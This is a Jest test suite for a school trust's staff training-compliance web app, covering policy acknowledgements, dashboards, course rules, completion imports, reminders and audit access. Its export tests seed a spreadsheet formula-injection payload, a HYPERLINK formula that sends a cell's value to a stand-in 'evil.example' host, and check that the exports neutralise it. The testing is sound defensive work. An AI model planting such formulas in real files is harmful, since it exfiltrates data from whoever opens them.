import { teamsUser } from '../helpers/personas.ts';
import { jest } from '@jest/globals';
import JSZip from 'jszip';
import { POLICY_COLUMN_ID, type ShownStanding, type StaffRow } from '../../src/domain/training/dashboard.ts';
import type { Figures } from '../../src/domain/training/dashboard.ts';
import { importPolicy } from '../../src/policy/import-policy.ts';
import { DEMO_PERSONAS, DEMO_SCHOOLS } from '../../src/seed/demo-data.ts';
import { appWithConnector, sayThroughConnector } from '../helpers/connector.ts';

jest.setTimeout(60_000);
const env = appWithConnector();
const store = () => env.app.app.services.store;
const HR = DEMO_PERSONAS.HR;
const STAFF = DEMO_PERSONAS.Staff;
const STAFF_CHAT = teamsUser('Staff');

interface Dashboard {
  columns: { id: string; title: string }[];
  summary: { overall: Figures; byRequirement: ({ id: string } & Figures)[]; byGroup: unknown[] };
  rows: StaffRow<ShownStanding>[];
}
interface Problem {
  error: { code: string; message: string; details?: unknown };
}

async function call(method: string, path: string, personId: string, body?: unknown) {
  const token = await env.app.signIn(personId);
  return fetch(`${env.app.base}/api/v1${path}`, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
}

async function json<T>(method: string, path: string, personId: string, body?: unknown): Promise<T> {
  const res = await call(method, path, personId, body);
  if (res.status !== 200) throw new Error(`${method} ${path}: ${res.status} ${await res.text()}`);
  return (await res.json()) as T;
}

const dashboard = () => json<Dashboard>('GET', '/training/dashboard', HR);
const policyFigures = (d: Dashboard) => d.summary.byRequirement.find((r) => r.id === POLICY_COLUMN_ID)!;
const rowOf = (d: Dashboard, personId: string) => d.rows.find((r) => r.personId === personId)!;
const policyStanding = (d: Dashboard, personId: string) =>
  rowOf(d, personId).standings[d.columns.findIndex((c) => c.id === POLICY_COLUMN_ID)];

describe('reading and confirming the policy', () => {
  test('a confirmation records person, version and time, once, and moves the dashboard', async () => {
    const before = await dashboard();
    expect(policyStanding(before, STAFF)?.status).toBe('overdue');
    const policy = await json<{ versionId: string; versionNumber: number; acknowledgedAt?: string }>(
      'GET',
      '/policy',
      STAFF,
    );
    expect(policy.acknowledgedAt).toBeUndefined();

    const stale = await call('POST', '/policy/acknowledgements', STAFF, { versionId: 'policy-school-oakfield-v0' });
    expect(stale.status).toBe(409);
    expect(((await stale.json()) as Problem).error.message).toMatch(/not the current version of your school’s policy/);

    const first = await json<{ at: string; alreadyConfirmed: boolean }>('POST', '/policy/acknowledgements', STAFF, {
      versionId: policy.versionId,
    });
    expect(first.alreadyConfirmed).toBe(false);
    const again = await json<{ at: string; alreadyConfirmed: boolean }>('POST', '/policy/acknowledgements', STAFF, {
      versionId: policy.versionId,
    });
    expect(again).toMatchObject({ alreadyConfirmed: true, at: first.at });
    const stored = await store().acknowledgements.listAll({ where: { personId: STAFF } });
    expect(stored).toHaveLength(1);
    expect(stored[0]).toMatchObject({ policyVersionId: policy.versionId, versionNumber: policy.versionNumber });
    expect((await json<{ acknowledgedAt?: string }>('GET', '/policy', STAFF)).acknowledgedAt).toBe(first.at);

    const after = await dashboard();
    expect(policyStanding(after, STAFF)).toEqual({ status: 'completed' });
    expect(policyFigures(after).compliant).toBe(policyFigures(before).compliant + 1);
  });

  test('a new version asks everyone again, and the bot tells those with a chat', async () => {
    await sayThroughConnector(env, STAFF_CHAT, 'hi', { id: 'a:jordan', conversationType: 'personal' });
    const current = await json<{ text: string; versionNumber: number }>('GET', '/policy', STAFF);
    await importPolicy(store(), {
      schoolId: 'school-oakfield',
      text: `${current.text}\n\n## Live streaming\n\nLive streams from school events need the headteacher's agreement first.\n`,
      format: 'md',
      importedById: DEMO_PERSONAS.SLT,
      at: new Date(),
    });
    env.app.app.services.outbox.kick();
    const notice = await env.connector.waitFor((r) => JSON.stringify(r.body).includes('The policy has been updated'));
    expect(notice.path).toContain('a:jordan');
    expect(JSON.stringify(notice.body)).toContain(`version ${current.versionNumber + 1}`);
    expect(policyStanding(await dashboard(), STAFF)?.status).toBe('not-started'); // a fresh grace period
    expect((await json<{ acknowledgedAt?: string }>('GET', '/policy', STAFF)).acknowledgedAt).toBeUndefined();
  });
});

describe('who sees the dashboard', () => {
  test('staff cannot; a senior leader sees their own school only; trust HR sees both', async () => {
    expect((await call('GET', '/training/dashboard', STAFF)).status).toBe(403);
    expect((await call('GET', '/training/dashboard?schoolId=school-riverside', DEMO_PERSONAS.SLT)).status).toBe(403);
    const slt = await json<Dashboard>('GET', '/training/dashboard', DEMO_PERSONAS.SLT);
    expect(new Set(slt.rows.map((r) => r.schoolId))).toEqual(new Set(['school-oakfield']));
    expect((await call('GET', '/training/export.csv', STAFF)).status).toBe(403);
    expect((await call('POST', '/training/reminders', STAFF, { everyoneOverdue: true })).status).toBe(403);
    const d = await dashboard();
    expect(new Set(d.rows.map((r) => r.schoolId))).toEqual(new Set(['school-oakfield', 'school-riverside']));
    const riverside = await json<Dashboard>('GET', '/training/dashboard?schoolId=school-riverside', HR);
    expect(riverside.rows.length).toBe(d.rows.filter((r) => r.schoolId === 'school-riverside').length);
  });

  test('the figures add up: per course, compliant + not compliant = the people it applies to', async () => {
    const d = await dashboard();
    for (const [i, column] of d.columns.entries()) {
      const applies = d.rows.filter((r) => r.standings[i] !== null);
      const figures = d.summary.byRequirement.find((r) => r.id === column.id)!;
      expect(figures.people).toBe(applies.length);
      expect(figures.compliant).toBe(
        applies.filter((r) => ['completed', 'due-soon'].includes(r.standings[i]!.status)).length,
      );
      expect(figures.overdue).toBe(applies.filter((r) => r.standings[i]!.status === 'overdue').length);
    }
    expect(d.summary.overall.people).toBe(d.rows.length);
  });
});

describe('one rule for who needs which course', () => {
  const MODERATOR = 'course-moderator';
  interface MyTraining {
    courses: { courseId: string; required: boolean; requiredBecause: string | null; standing: ShownStanding | null }[];
  }
  const myCourse = async (personId: string) =>
    (await json<MyTraining>('GET', '/training/mine', personId)).courses.find((c) => c.courseId === MODERATOR)!;
  const moderatorColumn = (d: Dashboard) => d.columns.findIndex((c) => c.id === MODERATOR);

  test('a teacher who starts moderating an account needs the runners’ course on every view at once', async () => {
    expect(await myCourse(STAFF)).toMatchObject({ required: false, standing: null });
    const before = await dashboard();
    const peopleBefore = before.summary.byRequirement.find((r) => r.id === MODERATOR)!.people;
    expect(rowOf(before, STAFF).standings[moderatorColumn(before)]).toBeNull();

    const today = new Date().toISOString().slice(0, 10);
    await store().socialAccounts.create({
      schoolId: rowOf(before, STAFF).schoolId,
      platform: 'Instagram',
      handle: '@oakfield_pe',
      url: 'https://instagram.com/oakfield_pe',
      leadId: DEMO_PERSONAS.Admin,
      moderatorIds: [STAFF],
      status: 'active',
      createdOn: today,
    });

    // My training: required, says why, and is not overdue the day the duty began.
    expect(await myCourse(STAFF)).toMatchObject({
      required: true,
      requiredBecause: 'account',
      standing: { status: 'not-started' },
    });
    // The dashboard counts them, so its card and the Record completion list (built from the row) include it.
    const after = await dashboard();
    expect(after.summary.byRequirement.find((r) => r.id === MODERATOR)!.people).toBe(peopleBefore + 1);
    expect(rowOf(after, STAFF).standings[moderatorColumn(after)]).toMatchObject({ status: 'not-started' });
    // HR records it; every view agrees it is done.
    await json('POST', '/training/records', HR, { personId: STAFF, courseId: MODERATOR, completedOn: today });
    expect((await myCourse(STAFF)).standing).toMatchObject({ status: 'completed' });
    const done = await dashboard();
    expect(rowOf(done, STAFF).standings[moderatorColumn(done)]).toMatchObject({ status: 'completed' });
  });

  test('a runner named on a submitted application needs it too; a draft names no one yet', async () => {
    const school = rowOf(await dashboard(), STAFF).schoolId;
    const application = await store().applications.create({
      schoolId: school,
      applicantId: DEMO_PERSONAS.SLT,
      accountName: 'Oakfield PE',
      aim: '',
      audience: '',
      promotion: '',
      runnerIds: [STAFF],
      volunteers: [],
      status: 'draft',
      decisions: [],
    });
    expect((await myCourse(STAFF)).required).toBe(false);
    await store().applications.update(application, { status: 'submitted', submittedAt: new Date().toISOString() });
    expect(await myCourse(STAFF)).toMatchObject({ required: true, requiredBecause: 'account' });
  });
});

describe('completions: HR entry and self-declarations', () => {
  const course = 'course-online-safety';
  const standingOn = (d: Dashboard, personId: string, courseId: string) =>
    rowOf(d, personId).standings[d.columns.findIndex((c) => c.id === courseId)];

  test('nobody vouches for their own training: HR and a senior leader cannot record their own, nor import their own row', async () => {
    for (const self of [HR, DEMO_PERSONAS.SLT]) {
      const own = await call('POST', '/training/records', self, {
        personId: self,
        courseId: course,
        completedOn: '2026-01-05',
      });
      expect(own.status).toBe(403);
      expect(((await own.json()) as Problem).error.message).toMatch(/Someone else must record your own training/);
    }
    const hrEmail = (await store().people.require(HR)).upn;
    const preview = await json<{ goodCount: number; bad: { row: number; problems: string[] }[] }>(
      'POST',
      '/training/imports/preview',
      HR,
      { csv: `email,course,completed\n${hrEmail},Online safety annual update,05/01/2026\n` },
    );
    expect(preview.goodCount).toBe(0);
    expect(preview.bad).toEqual([{ row: 2, problems: [expect.stringMatching(/this is your own training/)] }]);
  });

  test('HR records a completion and it counts at once; a date in the future is refused', async () => {
    const future = await call('POST', '/training/records', HR, {
      personId: 'person-oak-deputy-dsl',
      courseId: course,
      completedOn: '2999-01-01',
    });
    expect(future.status).toBe(400);
    expect(((await future.json()) as Problem).error.message).toMatch(/future/);
    expect(
      (await call('POST', '/training/records', STAFF, { personId: STAFF, courseId: course, completedOn: '2026-01-05' }))
        .status,
    ).toBe(403);
    const today = new Date().toISOString().slice(0, 10);
    await json('POST', '/training/records', HR, {
      personId: 'person-oak-deputy-dsl',
      courseId: course,
      completedOn: today,
    });
    expect(standingOn(await dashboard(), 'person-oak-deputy-dsl', course)).toMatchObject({ status: 'completed' });
  });

  test('a self-declaration waits for HR; HR accepts it and it counts; nobody checks their own', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const declared = await json<{ id: string }>('POST', '/training/declarations', STAFF, {
      courseId: course,
      completedOn: today,
    });
    const mine = await json<{ courses: { courseId: string; standing: { status: string } | null }[] }>(
      'GET',
      '/training/mine',
      STAFF,
    );
    expect(mine.courses.find((c) => c.courseId === course)?.standing?.status).toBe('awaiting-verification');
    const pending = await json<{ items: { id: string; etag: string; personName: string }[] }>(
      'GET',
      '/training/declarations',
      HR,
    );
    const item = pending.items.find((i) => i.id === declared.id)!;
    expect(item.personName).toBe('Jordan Ellery');

    const ownDeclared = await json<{ id: string }>('POST', '/training/declarations', HR, {
      courseId: course,
      completedOn: today,
    });
    const own = (await store().trainingRecords.require(ownDeclared.id)).etag;
    expect(
      (await call('POST', `/training/declarations/${ownDeclared.id}/review`, HR, { etag: own, outcome: 'accepted' }))
        .status,
    ).toBe(403);

    await json('POST', `/training/declarations/${declared.id}/review`, HR, { etag: item.etag, outcome: 'accepted' });
    expect(standingOn(await dashboard(), STAFF, course)?.status).toBe('completed');
    const twice = await call('POST', `/training/declarations/${declared.id}/review`, HR, {
      etag: (await store().trainingRecords.require(declared.id)).etag,
      outcome: 'rejected',
    });
    expect(twice.status).toBe(409);
  });
});

describe('importing completions from a training provider', () => {
  const header = 'Learner email,Course name,Date completed,Certificate expiry\n';
  const good = [
    'rowan.achebe@demo.example.sch.uk,Account moderator,03/02/2026,',
    'harriet.osei@demo.example.sch.uk,Online safety annual update,2026-01-15,2027-01-15',
  ];
  const bad = [
    'nobody@example.com,Account moderator,03/02/2026,',
    'harriet.osei@demo.example.sch.uk,Basket weaving,03/02/2026,',
    'harriet.osei@demo.example.sch.uk,Account moderator,31/02/2026,',
  ];
  const countImported = async () =>
    (await store().trainingRecords.listAll({ where: { schoolId: 'school-oakfield' } })).filter(
      (r) => r.source === 'import',
    ).length;

  test('the preview maps the columns itself and reports each bad row by number and reason', async () => {
    const preview = await json<{
      mapping: Record<string, number>;
      goodCount: number;
      bad: { row: number; problems: string[] }[];
      sample: { name: string; course: string }[];
    }>('POST', '/training/imports/preview', HR, { csv: header + [...good, ...bad].join('\n') });
    expect(preview.mapping).toEqual({ email: 0, course: 1, completedOn: 2, expiresOn: 3 });
    expect(preview.goodCount).toBe(2);
    expect(preview.sample[0]).toMatchObject({ name: 'Rowan Achebe', course: 'Account moderator' });
    expect(preview.bad).toEqual([
      { row: 4, problems: [expect.stringMatching(/no member of staff here has the email “nobody@example.com”/)] },
      { row: 5, problems: [expect.stringMatching(/no course called “Basket weaving”/)] },
      { row: 6, problems: [expect.stringMatching(/“31\/02\/2026” is not a date/)] },
    ]);
  });

  test('nothing is half-imported: with bad rows nothing is written until the importer confirms', async () => {
    const csv = header + [...good, ...bad].join('\n');
    const mapping = { email: 0, course: 1, completedOn: 2, expiresOn: 3 };
    const before = await countImported();
    const refused = await call('POST', '/training/imports', HR, { csv, mapping });
    expect(refused.status).toBe(422);
    const problem = (await refused.json()) as Problem;
    expect(problem.error.message).toMatch(/3 rows have problems, so nothing was imported/);
    expect(await countImported()).toBe(before);

    const done = await json<{ imported: number; skippedBadRows: number[] }>('POST', '/training/imports', HR, {
      csv,
      mapping,
      acceptBadRows: true,
    });
    expect(done).toMatchObject({ imported: 2, skippedBadRows: [4, 5, 6] });
    expect(await countImported()).toBe(before + 2);
    const again = await json<{ imported: number; alreadyRecorded: number }>('POST', '/training/imports', HR, {
      csv: header + good.join('\n'),
      mapping,
    });
    expect(again).toMatchObject({ imported: 0, alreadyRecorded: 2 });
  });

  test('a file that is not CSV, or a mapping without the required columns, is refused plainly', async () => {
    const broken = await call('POST', '/training/imports/preview', HR, { csv: 'email,course\n"unclosed,quote\n' });
    expect(broken.status).toBe(400);
    expect(((await broken.json()) as Problem).error.message).toMatch(/not valid CSV/);
    const unmapped = await call('POST', '/training/imports', HR, {
      csv: header + good.join('\n'),
      mapping: { email: 0 },
    });
    expect(unmapped.status).toBe(400);
    expect(((await unmapped.json()) as Problem).error.message).toMatch(/Choose the column that holds “Course”/);
  });
});

/** A member of staff who started last year and has done no training (and never opened the bot). */
const untrainedColleague = (
  id: string,
  names: { displayName: string; upn?: string; department?: string; jobTitle?: string },
) =>
  store().people.create(
    {
      trustId: 'trust-demo',
      schoolId: 'school-oakfield',
      upn: `${id}@demo.example.sch.uk`,
      givenName: 'Mallory',
      surname: 'Test',
      department: 'Office',
      jobTitle: 'Assistant',
      ...names,
      staffType: 'support',
      roles: [{ role: 'Staff', schoolId: 'school-oakfield' }],
      startedOn: '2025-09-01',
      active: true,
    },
    id,
  );

describe('exports', () => {
  beforeEach(async () => {
    await untrainedColleague('person-formula', {
      displayName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
      upn: 'mallory.test@demo.example.sch.uk',
      department: '+Office',
      jobTitle: '@SUM(1+1)',
    });
  });

  test('CSV: values a spreadsheet would run as formulas are neutralised, filters apply', async () => {
    const res = await call('GET', '/training/export.csv?search=mallory', HR);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="training-\d{4}-\d{2}-\d{2}\.csv"/);
    const text = await res.text();
    const lines = text
      .replace(/^\ufeff/, '')
      .trim()
      .split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`);
    expect(lines[1]).toContain(",'+Office,'@SUM(1+1),");
  });

  test('Excel: the same cells are text with the apostrophe, and the sheet has no formulas', async () => {
    const res = await call('GET', '/training/export.xlsx?department=%2BOffice', HR);
    expect(res.headers.get('content-type')).toMatch(/spreadsheetml/);
    const zip = await JSZip.loadAsync(new Uint8Array(await res.arrayBuffer()));
    const files = await Promise.all(
      Object.values(zip.files)
        .filter((f) => f.name.endsWith('.xml'))
        .map((f) => f.async('string')),
    );
    const xml = files.join('\n');
    expect(xml).toContain(`<t>'=HYPERLINK("https://evil.example/?x="&amp;A1,"Click")</t>`);
    expect(xml).toContain(`<t>'+Office</t>`);
    expect(xml).not.toMatch(/<f>/);
  });
});

describe('reminders', () => {
  test('each person gets one personal card through the bot, and not a second the same day', async () => {
    await sayThroughConnector(env, STAFF_CHAT, 'hi', { id: 'a:jordan', conversationType: 'personal' });
    await untrainedColleague('person-untrained', { displayName: 'Mallory Test' });
    const reminders = () => env.connector.received.filter((r) => JSON.stringify(r.body).includes('Training reminder'));
    const first = await json<{ queued: number; noChat: number; alreadyRemindedToday: number }>(
      'POST',
      '/training/reminders',
      HR,
      { personIds: [STAFF, 'person-untrained'] },
    );
    expect(first).toMatchObject({ queued: 1, noChat: 1, alreadyRemindedToday: 0 });
    const card = await env.connector.waitFor((r) => JSON.stringify(r.body).includes('Training reminder'));
    expect(card.path).toContain('a:jordan');
    expect(JSON.stringify(card.body)).toContain('Read and confirm');

    const second = await json<{ queued: number; alreadyRemindedToday: number }>('POST', '/training/reminders', HR, {
      personIds: [STAFF],
    });
    expect(second).toMatchObject({ queued: 0, alreadyRemindedToday: 1 });
    const everyone = await json<{ queued: number }>('POST', '/training/reminders', HR, { everyoneOverdue: true });
    expect(reminders().filter((r) => r.path.includes('a:jordan'))).toHaveLength(1);
    expect(everyone.queued).toBe(0); // nobody else has a chat with the bot in this test

    const row = rowOf(await dashboard(), STAFF);
    expect(row.lastRemindedAt).toBeDefined();
  });

  test('asking to remind nobody, or someone outside your schools, is refused', async () => {
    expect((await call('POST', '/training/reminders', HR, {})).status).toBe(400);
    expect((await call('POST', '/training/reminders', HR, { personIds: ['person-riv-head'] })).status).toBe(404);
  });
});

describe('courses and settings', () => {
  const course = (extra: Record<string, unknown> = {}) => ({
    title: 'Safer recruitment',
    refresherMonths: 36,
    requiredForRoles: ['SLT'],
    ...extra,
  });

  test('a school’s leaders add its own courses; only trust-wide HR adds one for every school', async () => {
    expect((await call('GET', '/training/courses', STAFF)).status).toBe(403);
    expect((await call('POST', '/training/courses', DEMO_PERSONAS.SLT, course())).status).toBe(403);
    const own = await json<{ id: string }>(
      'POST',
      '/training/courses',
      DEMO_PERSONAS.SLT,
      course({ schoolId: 'school-oakfield' }),
    );
    const duplicate = await call('POST', '/training/courses', HR, course({ title: 'safer RECRUITMENT ' }));
    expect(duplicate.status).toBe(409);
    const trustWide = await json<{ id: string }>('POST', '/training/courses', HR, course({ title: 'Prevent duty' }));

    const d = await dashboard();
    expect(d.columns.map((c) => c.id)).toEqual(expect.arrayContaining([own.id, trustWide.id]));
    // The Oakfield course does not apply at Riverside.
    const ownColumn = d.columns.findIndex((c) => c.id === own.id);
    expect(d.rows.filter((r) => r.schoolId === 'school-riverside').every((r) => r.standings[ownColumn] === null)).toBe(
      true,
    );
    const listed = await json<{ items: { id: string; etag: string; canChange: boolean }[] }>(
      'GET',
      '/training/courses',
      DEMO_PERSONAS.SLT,
    );
    expect(listed.items.find((c) => c.id === trustWide.id)?.canChange).toBe(false);
    const mine = listed.items.find((c) => c.id === own.id)!;
    expect(mine.canChange).toBe(true);
    await json('PUT', `/training/courses/${own.id}`, DEMO_PERSONAS.SLT, {
      ...course({ schoolId: 'school-oakfield', refresherMonths: 24 }),
      etag: mine.etag,
    });
    expect((await store().courses.require(own.id)).refresherMonths).toBe(24);
  });

  test('HR sets when training counts as due soon and new starters’ grace; staff cannot', async () => {
    const body = { dueSoonDays: 60, graceDays: 14 };
    expect((await call('PUT', '/schools/school-oakfield/training', STAFF, body)).status).toBe(403);
    const onlineSafety = (d: Dashboard) => d.summary.byRequirement.find((r) => r.id === 'course-online-safety')!;
    const before = onlineSafety(await dashboard());
    await json('PUT', '/schools/school-oakfield/training', HR, body);
    expect(await json('GET', '/schools/school-oakfield/training', HR)).toEqual(body);
    // Sixty days' notice instead of thirty: more of Oakfield's completions now count as due soon.
    expect(onlineSafety(await dashboard()).expiringSoon).toBeGreaterThan(before.expiringSoon);
    const audit = await store().audit.listAll({ where: { targetId: 'school-oakfield' } });
    expect(audit.some((a) => a.action === 'school.training.changed')).toBe(true);
  });
});

describe('audit entries about the whole trust', () => {
  interface AuditAnswer {
    items: { action: string; schoolId?: string; trustId?: string }[];
    choices: { schools: { id: string; name: string }[]; wholeTrust: boolean };
  }
  const exports = (page: AuditAnswer) => page.items.filter((e) => e.action === 'training.exported');

  test('an export across schools is the trust’s entry, shown to whoever oversees every school and no one else', async () => {
    expect((await call('GET', '/training/export.csv', HR)).status).toBe(200);
    expect((await call('GET', `/training/export.csv?schoolId=${DEMO_SCHOOLS.primary}`, HR)).status).toBe(200);

    const bySchool = await json<AuditAnswer>('GET', '/audit?targetKind=people', HR);
    expect(bySchool.choices).toEqual({
      schools: [
        expect.objectContaining({ id: DEMO_SCHOOLS.primary }),
        expect.objectContaining({ id: DEMO_SCHOOLS.secondary }),
      ],
      wholeTrust: true,
    });
    expect(exports(bySchool)).toEqual([expect.objectContaining({ schoolId: DEMO_SCHOOLS.primary })]);
    const trustWide = await json<AuditAnswer>('GET', '/audit?targetKind=people&wholeTrust=true', HR);
    expect(exports(trustWide)).toEqual([expect.objectContaining({ trustId: expect.any(String) })]);
    expect(trustWide.items.every((e) => e.schoolId === undefined)).toBe(true);

    // A senior leader of one school sees that school's export, not the trust's, and is told why not.
    const leader = await json<AuditAnswer>('GET', '/audit?targetKind=people', DEMO_PERSONAS.SLT);
    expect(leader.choices.wholeTrust).toBe(false);
    expect(exports(leader)).toHaveLength(1);
    const refused = await call('GET', '/audit?wholeTrust=true', DEMO_PERSONAS.SLT);
    expect(refused.status).toBe(403);
    expect(((await refused.json()) as Problem).error.message).toMatch(/oversee every one of its schools/);
    // And asking for one school and the whole trust at once is refused in words.
    const both = await call('GET', `/audit?wholeTrust=true&schoolId=${DEMO_SCHOOLS.primary}`, HR);
    expect(both.status).toBe(400);
  });
});
